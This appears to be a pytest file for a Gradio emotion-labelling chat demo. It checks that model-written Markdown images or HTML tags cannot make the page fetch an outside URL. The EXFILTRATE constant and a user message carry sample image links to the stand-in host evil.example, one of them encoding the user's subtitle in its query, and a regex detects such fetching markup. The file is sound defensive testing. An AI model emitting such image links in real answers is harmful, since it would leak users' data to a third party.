"""What a model writes cannot make the demo's page fetch a URL: no Markdown image and no raw HTML
from model text reaches the chat or the labels table (an answer could otherwise carry the user's
subtitle or question out in an image URL)."""

from __future__ import annotations

import re

import pytest
from chat_helpers import CLIP

from affect_llm.chat import app

pytest.importorskip("gradio")

EXFILTRATE = (
    "<think>She smiles.</think>\n<answer>happy, ![t](http://evil.example/x.png?q=subtitle), "
    '<img src="http://evil.example/y.png">, ! [ref][1]</answer>\n\n[1]: http://evil.example/z.png'
)
FETCHING = re.compile(r"!\s*\[|<\s*(img|iframe|video|audio|source|link|object|embed)\b", re.I)


def test_model_text_in_the_chat_and_labels_fetches_nothing(tiny_engine, monkeypatch):
    tokenizer = tiny_engine.processor.tokenizer

    def hostile_generate(input_ids, streamer, **kwargs):
        streamer.put(input_ids)  # the prompt, skipped by the streamer
        for token in tokenizer(EXFILTRATE, return_tensors="pt").input_ids[0]:
            streamer.put(token.unsqueeze(0))
        streamer.end()

    monkeypatch.setattr(tiny_engine.model, "generate", hostile_generate)
    page = app.Page(*[f"component-{i}" for i in range(12)])
    handlers = app.DemoHandlers(engine=tiny_engine, page=page)
    conversation = tiny_engine.open_clip(CLIP)
    updates = list(
        handlers.follow_up("![x](http://evil.example/q.png)", conversation, [], "wheel1")
    )
    chat = updates[-1][page.chat]
    assert [m["role"] for m in chat] == ["user", "assistant"]
    for message in chat:
        assert not FETCHING.search(message["content"]), message["content"]
    assert "evil.example/x.png" in chat[-1]["content"]  # shown as text, not loaded
    labels = updates[-1][page.labels]
    assert not FETCHING.search(labels), labels
    assert "happy" in labels
